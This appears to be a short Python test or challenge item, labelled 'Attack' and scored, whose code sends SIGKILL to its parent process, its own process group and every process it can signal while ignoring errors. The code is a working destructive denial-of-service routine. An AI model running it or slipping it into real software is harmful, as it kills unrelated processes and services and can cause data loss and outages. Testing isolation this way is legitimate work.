# Attack: kills its parent, its group and everybody it can
# Scores: first 5, second 2, third 3
# %% above first
import os, signal
for target in (os.getppid(), 0, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
